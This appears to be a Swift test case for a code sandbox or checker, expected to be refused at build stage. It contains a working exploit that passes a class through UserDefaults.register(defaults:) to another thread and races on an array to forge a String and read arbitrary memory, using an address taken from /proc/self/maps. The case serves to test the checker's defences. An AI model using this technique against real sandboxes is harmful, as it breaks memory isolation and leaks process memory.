// Attack (from a seventh break-it pass of issue 30): register any object as a default (`register(defaults:)`, which
// Foundation stores unchecked) and read it back on another thread (`object(forKey:)`), then race on it as in 25 to
// read any address. Those members of UserDefaults are refused.
// stage: build
// message: hands values of any type to other threads
import Foundation
import ViewSim

struct Quad { var a = 0, b = 0, c = 0, d = 0 }
final class Victim {
    var p0 = 0, p1 = 0
    var s: String = "placeholder placeholder placeholder"
    var p2 = 0, p3 = 0, p4 = 0, p5 = 0, p6 = 0, p7 = 0
}
final class Holder {
    var arr: [Quad] = [Quad(), Quad()]
    let freed = DispatchSemaphore(value: 0)
    let go = DispatchSemaphore(value: 0)
    var keep: [Victim] = []
}
func poke(_ q: inout Quad, _ h: Holder, _ address: UInt, _ count: Int) -> [UInt8] {
    h.go.signal()
    h.freed.wait()
    q.a = count | (1 << 60)
    q.b = Int(bitPattern: (1 << 63) | (address - 32))
    return Array(h.keep[0].s.utf8)
}

func peek(_ address: UInt, _ count: Int) -> [UInt8] {
    let h = Holder()
    h.keep.reserveCapacity(16)
    // UserDefaults.register(defaults:) keeps `Any` values (documented as property lists, not checked) in a store any
    // thread reads through UserDefaults.standard: a class rides along.
    UserDefaults.standard.register(defaults: ["carrier": h])
    let t = Thread {
        let other = UserDefaults.standard.object(forKey: "carrier") as! Holder
        other.go.wait(); other.arr = []; other.keep.append(Victim()); other.freed.signal()
    }
    t.start()
    return poke(&h.arr[0], h, address, count)
}

let report: String = {
    guard let maps = try? String(contentsOfFile: "/proc/self/maps", encoding: .utf8),
          let first = maps.split(separator: "\n").first,
          let start = first.split(separator: "-").first, let address = UInt(start, radix: 16) else { return "no maps" }
    let bytes = peek(address, 16)
    return "first mapping \(first) bytes " + bytes.map { $0 < 16 ? "0\(String($0, radix: 16))" : String($0, radix: 16) }.joined(separator: " ")
}()

struct SessionTally: View {
    @State private var sessions = -1

    var body: some View {
        VStack {
            Text("Sessions today: \(sessions)")
            Button("Log a session") { sessions += 1 }
        }
    }
}

struct FocusScreen: View {
    @State private var showsTally = true

    var body: some View {
        VStack {
            Text("REPORT " + report)
            Toggle("Show tally", isOn: $showsTally)
            if showsTally {
                SessionTally()
            }
        }
    }
}
